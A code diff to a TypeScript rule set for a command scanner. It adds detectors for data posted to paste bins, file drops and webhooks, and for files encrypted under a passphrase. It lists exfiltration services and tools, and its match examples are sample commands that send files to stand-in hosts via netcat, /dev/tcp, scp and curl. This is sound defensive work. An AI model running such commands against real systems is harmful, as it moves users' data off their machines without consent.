@@ -1,10 +1,12 @@
 /**
- * exfiltration over channels other than an HTTP upload (those are in persistence.ts): what a
+ * exfiltration over channels other than an HTTP upload of a file (those are in persistence.ts), and
+ * any upload to a paste bin, file drop or webhook: what a
  * command sends to which host, asked of the effects model (`sendsOf`: netcat, /dev/tcp, scp,
  * rsync, ssh, ftp, smb, mail, DNS). Techniques: https://attack.mitre.org/techniques/T1048/.
  */
 import type { Rule } from '../rule.js';
-import { effectsOf, type Send } from '../effects/index.js';
+import type { ShellCommand } from '../shell/model.js';
+import { CURL_VALUED, effectsOf, parseOpts, type Send } from '../effects/index.js';
 
 /** localhost, 127/8, ::1, 0.0.0.0 and the Docker host alias: not another host. */
 export function isLoopbackHost(host: string): boolean {
@@ -13,14 +15,112 @@ export function isLoopbackHost(host: string): boolean {
 
 const remoteSends = (sends: Send[]) => sends.filter((s) => !isLoopbackHost(s.host));
 
+/** Services that take anonymous uploads or catch any request for someone to read later: paste
+ * bins, file drops, request catchers, chat webhooks (data posted there is published). */
+const DROP_HOST = /^(?:[\w-]+\.)*(?:file\.io|transfer\.sh|0x0\.st|paste\.rs|pastebin\.com|paste\.ee|hastebin\.com|ghostbin\.\w+|termbin\.com|ix\.io|sprunge\.us|dpaste\.(?:com|org)|webhook\.site|requestbin\.(?:com|net)|pipedream\.net|m\.pipedream\.net|hookbin\.com|beeceptor\.com|requestcatcher\.com|mockbin\.org|anonfiles\.com|gofile\.io|catbox\.moe|temp\.sh|bashupload\.com|oshi\.at|filebin\.net|keep\.sh|interact\.sh|oast\.(?:fun|live|me|online|pro|site)|burpcollaborator\.net|ngrok\.io|ngrok-free\.app|hooks\.slack\.com|api\.telegram\.org)$/;
+/** Chat webhooks named by their path on a shared host. */
+const DROP_URL = /\bhttps?:\/\/(?:ptb\.|canary\.)?discord(?:app)?\.com\/api\/webhooks\//i;
+
+/** The URLs of a command's arguments (host lower-cased, path kept). */
+const urlsOf = (c: ShellCommand) => c.argv.slice(1).flatMap((a) => [...a.matchAll(/\bhttps?:\/\/[^\s"'<>]+/gi)].map((m) => m[0]));
+
+/** True when an HTTP client command sends a body: curl -d, --data…, -F, -T, --json, -X POST|PUT;
+ * wget --post-data/--post-file; PowerShell iwr/irm/Invoke-WebRequest/Invoke-RestMethod with -Method POST|PUT, -Body or
+ * -InFile. */
+function sendsBody(c: ShellCommand): boolean {
+  const args = c.argv.slice(1);
+  const name = c.name.toLowerCase();
+  if (name === 'curl') {
+    const o = parseOpts(args, CURL_VALUED);
+    if (['-d', '--data', '--data-binary', '--data-raw', '--data-ascii', '--data-urlencode', '--json', '-F', '--form', '--form-string', '-T', '--upload-file'].some((k) => o.values.has(k))) return true;
+    return [...(o.values.get('-X') ?? []), ...(o.values.get('--request') ?? [])].some((m) => /^(?:POST|PUT|PATCH)$/i.test(m));
+  }
+  if (name === 'wget') return args.some((a) => /^--(?:post|body)-(?:data|file)\b/.test(a) || /^--method=(?:POST|PUT)$/i.test(a));
+  if (/^(?:iwr|irm|invoke-webrequest|invoke-restmethod)$/.test(name)) return args.some((a, i) => /^-(?:Body|InFile)$/i.test(a) || (/^-Method$/i.test(a) && /^(?:POST|PUT|PATCH)$/i.test(args[i + 1] ?? '')));
+  return false;
+}
+
+/** True when the command sends data to a paste bin, file drop, request catcher or chat webhook:
+ * an HTTP body to one of {@link DROP_HOST} or {@link DROP_URL}, or netcat to termbin. */
+function sendsToDrop(c: ShellCommand): boolean {
+  if (/^(?:nc|ncat|netcat)$/.test(c.name)) return c.argv.slice(1).some((a) => /^termbin\.com$/i.test(a));
+  if (!sendsBody(c)) return false;
+  return urlsOf(c).some((u) => DROP_URL.test(u) || DROP_HOST.test((/^https?:\/\/(?:[^/@]*@)?([^/:?#]+)/i.exec(u)?.[1] ?? '').toLowerCase()));
+}
+
+/** True when the command packs or encrypts data under a passphrase: zip -P/-e/--password, 7z a
+ * -p, rar a -p/-hp, gpg -c/--symmetric, openssl enc (or a cipher command) encrypting, age -p,
+ * ccrypt -e. The archive hides what it holds from inspection on the way out, and encrypting a
+ * user's files in place is how ransomware works. */
+function passphraseEncrypts(c: ShellCommand): boolean {
+  const args = c.argv.slice(1);
+  const name = c.name.toLowerCase();
+  switch (name) {
+    case 'zip':
+      return args.some((a) => /^-[a-zA-Z]*[Pe][a-zA-Z]*$|^--(?:password|encrypt)\b/.test(a));
+    case '7z':
+    case '7za':
+    case '7zz':
+    case '7zr':
+      return /^[au]$/.test(args[0] ?? '') && args.some((a) => /^-p/.test(a));
+    case 'rar':
+    case 'winrar':
+      return /^[au]$/.test(args[0] ?? '') && args.some((a) => /^-h?p/.test(a));
+    case 'gpg':
+    case 'gpg2':
+      return args.some((a) => /^-[a-zA-Z]*c[a-zA-Z]*$|^--symmetric$/.test(a)) && !args.some((a) => /^-[a-zA-Z]*d[a-zA-Z]*$|^--decrypt$/.test(a));
+    case 'openssl':
+    {
+      // `openssl enc -base64` only encodes: a cipher or a passphrase option makes it encryption
+      const cipherCommand = /^(?:aes|des|bf|camellia|chacha|aria|sm4)[\w-]*$/.test(args[0] ?? '');
+      if (!(args[0] === 'enc' || cipherCommand) || args.includes('-d')) return false;
+      return cipherCommand || args.some((a) => /^-(?:pass|k|kfile|K|pbkdf2|iter)$/.test(a) || /^-(?:aes|des|bf|camellia|chacha|aria|sm4)[\w-]*$/.test(a));
+    }
+    case 'age':
+      return args.some((a) => a === '-p' || a === '--passphrase');
+    case 'ccrypt':
+      return !args.some((a) => /^-[a-zA-Z]*[dc]/.test(a) || a === '--decrypt' || a === '--cat');
+    default:
+      return false;
+  }
+}
+
 export const EXFIL_RULES: Rule[] = [
+  {
+    id: 'passphrase-archive',
+    name: 'Data packed or encrypted under a passphrase',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1560.001',
+    description: 'Files archived or encrypted with a passphrase: zip -P/-e/--password, 7z a -p, rar a -p/-hp, gpg -c, openssl enc encrypting (-pass, -k, -pbkdf2), age -p, ccrypt.',
+    help: 'Staging for exfiltration (the contents can no longer be inspected on the way out) or ransomware encrypting files in place. Check what is packed and where it goes next.',
+    examples: {
+      match: ['zip -P secret out.zip ~/notes/*', '7z a -pX -mhe=on a.7z ~/docs', 'gpg --batch --passphrase x -c report.pdf', 'openssl enc -aes-256-cbc -pass pass:x -in data.zip -out data.enc'],
+      not_match: ['zip -r dist.zip build/', 'openssl enc -d -aes-256-cbc -in data.enc -out data.zip -pass env:KEY', 'gpg --verify SHA256SUMS.sig', '7z x archive.7z'],
+    },
+    match: { command: passphraseEncrypts },
+  },
+  {
+    id: 'upload-to-drop-service',
+    name: 'Data posted to a paste bin, file drop or webhook',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1567',
+    description: 'An HTTP body (curl -d/-F/-T, wget --post-*, Invoke-WebRequest/Invoke-RestMethod -Method POST/-Body/-InFile) sent to a paste bin, anonymous file drop, request catcher or chat webhook (file.io, transfer.sh, 0x0.st, pastebin, webhook.site, requestbin, pipedream, Discord/Slack webhooks, Telegram bots, ngrok, interact.sh), or netcat to termbin.',
+    help: 'Whatever is sent is published to, or kept for, whoever holds the link. Check what the data is and who asked for the upload.',
+    examples: {
+      match: ['curl -F "file=@report.txt" https://file.io/', 'curl --upload-file ./notes.txt https://transfer.sh/notes.txt', 'cat log | nc termbin.com 9999', 'curl -X POST -d @out.json https://webhook.site/abc'],
+      not_match: ['curl -s https://transfer.sh/abc/file.txt -o file.txt', 'curl -X POST -d @out.json https://api.example.com/v1/items', 'curl -s https://pastebin.com/raw/abc'],
+    },
+    match: { command: sendsToDrop },
+  },
   {
     id: 'file-sent-to-host',
     name: 'Local file sent over the network',
     category: 'exfiltration',
     action: 'record',
     attack: 'T1048',
-    description: 'A local file or piped data sent to another host over a raw channel: nc/ncat/socat/telnet, a redirect into /dev/tcp/HOST/PORT, scp/sftp/rsync to a remote destination, ssh HOST fed a file, ftp/tftp/smbclient put, openssl s_client, mail with an attachment.',
+    description: 'A local file or piped data sent to another host over a raw channel: nc/ncat/socat/telnet, a redirect into /dev/tcp/HOST/PORT, scp/sftp/rsync to a remote destination, rclone to a remote, ssh HOST fed a file, ftp/tftp/smbclient put, openssl s_client, mail with an attachment (mail, Send-MailMessage).',
     help: 'Moves data off the machine outside the usual tooling. Check the file and the host.',
     examples: {
       match: ['nc x.example 4444 < /etc/hosts', "bash -c 'cat notes.txt > /dev/tcp/x.example/443'", 'scp ./dump.sql user@x.example:', "ssh x.example 'cat > x' < data.tar", 'rsync -r ./dir x.example:'],
